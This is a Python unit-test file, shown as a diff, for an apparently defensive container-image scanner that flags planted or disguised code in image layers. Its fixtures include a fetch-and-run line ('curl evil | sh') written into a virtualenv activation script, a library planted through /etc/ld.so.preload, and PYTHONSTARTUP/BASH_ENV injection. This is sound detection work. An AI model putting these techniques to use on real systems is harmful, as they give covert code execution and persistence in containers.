@@ -1,0 +1,241 @@
+"""Images that were made to look clean: code of another origin must be a finding wherever it is."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from prodlock.origins.records import Package
+from prodlock.tests.unit.origins.subjects import SITE, Contents, distribution, evidence, found, subject
+from prodlock.tests.unit.origins.test_attribution import SCRIPT
+
+SHOP, WHEEL = distribution(
+    "shop", "1.0", {"shop/__init__.py": b"", "shop/a.py": b"a = 1\n"}, commands={"shop": "shop.a:main"}
+)
+CLEAN = SHOP | {"/usr/local/bin/shop 755": SCRIPT}
+LIBRARY = "/usr/local/lib/python3.13"
+PYTHON = b"\x7fELF python"
+BASE = {
+    "/usr/local/bin/python3.13 755": PYTHON,
+    "/usr/local/bin/python3": b"-> python3.13",
+    "/bin/sh 755": b"\x7fELF sh",
+    "/bin/true 755": b"\x7fELF true",
+    "/etc/localtime": b"UTC",
+    "/usr/share/zoneinfo/Europe/Berlin": b"CET",
+    f"{LIBRARY}/os.py": b"import abc\n",
+    f"{LIBRARY}/this.py": b"print('zen')\n",
+    f"{LIBRARY}/json/__init__.py": b"import re\n",
+    "/usr/lib/libssl.so.3": b"\x7fELF ssl",
+    "/usr/lib/libz.so.1": b"\x7fELF z",
+}
+REPOSITORY = {
+    "app/__init__.py": b"",
+    "app/main.py": b"main = 1\n",
+    "app/x.py": b"import os\n",
+    "run.sh": b"#!/bin/sh\n",
+    "README.md": b"text\n",
+}
+APP = {"/app/app/__init__.py": b"", "/app/app/main.py": b"main = 1\n", "/app/run.sh 755": b"#!/bin/sh\n"}
+X = REPOSITORY["app/x.py"]
+OWN, _ = distribution("api", "0.1", {"app/main.py": b"main = 1\n"})
+
+
+def codes(*layers: Contents, config: Mapping[str, Any] | None = None, **given: Any) -> set[tuple[str, str]]:  # noqa: ANN401
+    """Return the findings about an image with these layers above the base image."""
+    image = subject(BASE, *layers)
+    image = replace(image, image=replace(image.image, config=config or {}))
+    return found(evidence(image, [WHEEL], repository=REPOSITORY, own=frozenset({"api"}), **given))
+
+
+def test_an_ordinary_image_has_no_findings() -> None:
+    """The control: renamed scripts, links to commands and to the time zone, copies of an interpreter, own packages."""
+    layer = (
+        CLEAN
+        | APP
+        | {
+            "/entrypoint.sh 755": b"#!/bin/sh\n",
+            "/app/.venv/pyvenv.cfg": b"home = /usr/local/bin\n",
+            "/app/.venv/bin/python": b"-> /usr/local/bin/python3",
+            "/opt/v/pyvenv.cfg": b"home = /usr/local/bin\n",
+            "/opt/v/bin/python 755": PYTHON,
+            "/opt/v/bin/python3": b"-> python",
+            "/opt/v/lib64": b"-> lib",
+            "/bin/shop": b"-> /usr/local/bin/shop",
+            "/etc/localtime": b"-> /usr/share/zoneinfo/Europe/Berlin",
+            "/usr/local/bin/python": b"-> /app/.venv/bin/python",
+        }
+    )
+    assert codes(layer) == set()
+    assert codes(layer | OWN) == set()
+    assert codes(layer, {"/etc/localtime": b"CET"}) == set()
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        f"{LIBRARY}/sitecustomize.py",
+        f"{LIBRARY}/json/__init__.py",
+        f"{LIBRARY}/os.py",
+        "/app/sitecustomize.py",
+        "/app/json.py",
+        "/app/shop/__init__.py",
+        "/app/.venv/lib/python3.13/json/__init__.py",
+        "/usr/local/bin/json.py",
+        "/usr/local/bin/python3.13 755",
+        "/app/bin/python 755",
+        "/app/bin/shop 755",
+        "/app/bin/sh 755",
+        "/usr/lib/libz.so.1",
+        "/app/extra.pth",
+    ],
+)
+@pytest.mark.parametrize("content", [X, BASE[f"{LIBRARY}/this.py"]], ids=["repository", "base"])
+def test_a_known_content_where_it_is_run_as_something_else_is_found(path: str, content: bytes) -> None:
+    """A file of the repository or of the base image, under a name that Python or a user takes for another."""
+    assert path.partition(" ")[0] in {place for _, place in codes(CLEAN | APP | {path: content})}
+
+
+@pytest.mark.parametrize(
+    ("path", "target"),
+    [
+        (f"{LIBRARY}/json/__init__.py", "../this.py"),
+        (f"{LIBRARY}/json", "/app/app"),
+        (f"{LIBRARY}/sitecustomize.py", "/app/app/main.py"),
+        ("/app/json.py", "/app/app/main.py"),
+        ("/app/json", "/app/app"),
+        ("/usr/local/bin/python3.13", "/bin/sh"),
+        ("/usr/local/bin/python3", "/bin/sh"),
+        ("/app/.venv/bin/python", "/app/run.sh"),
+        ("/usr/local/bin/shop", "/app/run.sh"),
+        ("/usr/lib/libz.so.1", "libssl.so.3"),
+    ],
+)
+def test_a_link_that_leads_a_name_to_another_content_is_found(path: str, target: str) -> None:
+    """Where it replaces what the base image or a wheel has, or has a name that Python takes for another module."""
+    assert path in {place for _, place in codes(CLEAN | APP, {path: f"-> {target}".encode()})}
+
+
+def test_a_link_to_data_with_the_name_of_code_is_found() -> None:
+    """Data need not be explained, and a link makes it code."""
+    layer = CLEAN | {"/app/data.txt": b"import sys\n", "/app/plugin.py": b"-> data.txt"}
+    assert ("LS617", "/app/plugin.py") in codes(layer)
+
+
+@pytest.mark.parametrize(
+    "folder",
+    [
+        "/usr/local/lib/python3.13",
+        "/opt/v/lib/python3.13/site-packages",
+        "/app",
+        "/usr/local/bin",
+        "/etc/ld.so.preload/..",
+    ],
+)
+def test_dpkgs_records_explain_nothing_where_debian_installs_nothing(folder: str) -> None:
+    """They are the image's own word."""
+    path = "/etc/ld.so.preload" if folder.endswith("..") else f"{folder}/evil.so"
+    given = {(1, path): Package("libc6", "2"), (1, "/usr/lib/libpq.so.5"): Package("libpq5", "17")}
+    layer = CLEAN | {path: b"\x7fELF", "/usr/lib/libpq.so.5": b"\x7fELF"}
+    assert {place for _, place in codes(layer, debian=given)} == {path}
+
+
+def test_metadata_of_the_project_itself_has_no_code() -> None:
+    """Nothing repeats what its build backend wrote: known names of texts alone are accepted."""
+    info = f"{SITE}/api-0.1.dist-info"
+    for name, content in (
+        ("run", b"#!/bin/sh\n"),
+        ("lib.so.1", b"\x7fELF"),
+        ("METADATA2", b"x"),
+        ("a.txt 755", b"#!/bin/sh\n"),
+    ):
+        assert codes(CLEAN | APP | OWN | {f"{info}/{name}": content}), name
+    names = ("METADATA", "WHEEL", "top_level.txt", "entry_points.txt", "LICENSE.md")
+    assert (
+        codes(CLEAN | APP | OWN | {f"{info}/{name}": OWN.get(f"{info}/{name}", b"text\n") for name in names}) == set()
+    )
+
+
+def test_the_record_of_the_project_itself_explains_no_other_module() -> None:
+    """A file of the repository in an environment has its own name there, and no wheel has it."""
+    info = f"{SITE}/api-0.1.dist-info"
+    record = OWN[f"{info}/RECORD"] + b"sitecustomize.py,,\nshop/a.py,,\n"
+    planted = {f"{info}/RECORD": record, f"{SITE}/sitecustomize.py": X, f"{SITE}/shop/a.py": X}
+    assert codes(CLEAN | APP | OWN | planted) == {
+        ("LS606", f"{SITE}/sitecustomize.py"), ("LS605", f"{SITE}/shop/a.py"),
+    }  # fmt: skip
+
+
+def test_the_project_itself_declares_no_command_of_a_wheel() -> None:
+    """The wheel's entry point counts."""
+    entries = {f"{SITE}/api-0.1.dist-info/entry_points.txt": b"[console_scripts]\nshop = app.main:main\n"}
+    script = {"/usr/local/bin/shop 755": SCRIPT.replace(b"shop.a", b"app.main")}
+    assert {code for code, _ in codes(CLEAN | APP | OWN | entries | script)} == {"LS616"}
+
+
+def test_a_record_of_a_later_layer_is_compared_as_well() -> None:
+    """Each RECORD by its own content."""
+    record = f"{SITE}/shop-1.0.dist-info/RECORD"
+    assert ("LS605", record) in codes(CLEAN, {record: b"evil.py,sha256=abc,1\n"})
+
+
+@pytest.mark.parametrize("name", ["activate", "activate_this.py", "deactivate.sh", "pydoc.bat", "activate.fish"])
+def test_an_activation_script_that_no_tool_writes_is_found(name: str) -> None:
+    """A shell reads it before the program starts."""
+    layer = {"/app/.venv/pyvenv.cfg": b"home = /usr/local/bin\n", f"/app/.venv/bin/{name}": b"curl evil | sh\n"}
+    assert ("LS616", f"/app/.venv/bin/{name}") in codes(CLEAN | layer)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/app/a\nb.py",
+        "/a\nb/lib/python3.13/site-packages/x.py",
+        "/usr/local/bin/a\nb 755",
+        "/app/a\nb/x.sh",
+        "/usr/local/lib/python313.zip",
+        "/usr/local/bin/python3._pth",
+        "/usr/local/bin/pybuilddir.txt",
+        "/app/x.zip",
+    ],
+)
+def test_code_with_an_unusual_name_is_found(path: str) -> None:
+    """Names with line breaks, and files that decide where Python imports from."""
+    assert codes(CLEAN | {path: b"#!x = 1\n"})
+
+
+def test_bytecode_without_a_name_of_bytecode_is_found() -> None:
+    """`python FILE` runs it by its magic number."""
+    assert ("LS617", "/app/data.bin") in codes(CLEAN | {"/app/data.bin": b"\xf3\r\r\n" + bytes(12)})
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        {"Cmd": ["python", "/app/data.txt"]},
+        {"Entrypoint": ["/bin/sh", "-c", ". /app/data.txt && exec shop"]},
+        {"Cmd": ["python", "data.txt"], "WorkingDir": "/app"},
+        {"Healthcheck": {"Test": ["CMD-SHELL", "python ./data.txt"]}, "WorkingDir": "/app/"},
+        {"Env": ["PYTHONSTARTUP=/app/data.txt"]},
+        {"Env": ["BASH_ENV=/app/data.txt"]},
+    ],
+)
+def test_an_unexplained_file_that_the_configuration_names_is_found(config: dict[str, Any]) -> None:
+    """Whatever its name: a container runs it."""
+    assert codes(CLEAN | {"/app/data.txt": b"import sys\n"}, config=config) == {("LS617", "/app/data.txt")}
+
+
+def test_files_of_a_folder_on_path_are_commands() -> None:
+    """Whatever their permissions and their contents."""
+    config = {"Env": ["PATH=/usr/bin:/x/"]}
+    assert codes(CLEAN | {"/x/tool": b"evil"}, config=config) == {("LS616", "/x/tool")}
+
+
+def test_entries_that_engines_unpack_differently_are_found() -> None:
+    """A deletion with content, a deletion of what the same layer has, and a file below a link."""
+    assert codes(CLEAN | {"/app/.wh.x": b"content"}) == {("LS212", "/app/.wh.x")}
+    assert codes(CLEAN | {"/app/.wh.x": b"", "/app/x": b"data"}) == {("LS212", "/app/.wh.x")}
+    assert codes(CLEAN | {"/app/link": b"-> /data"}, {"/app/link/x": b"data"}) == {("LS212", "/app/link/x")}
+    assert codes(CLEAN | {"/app/link": b"-> /data"}, {"/app/.wh.link": b""}) == {("LS613", "/app/link")}
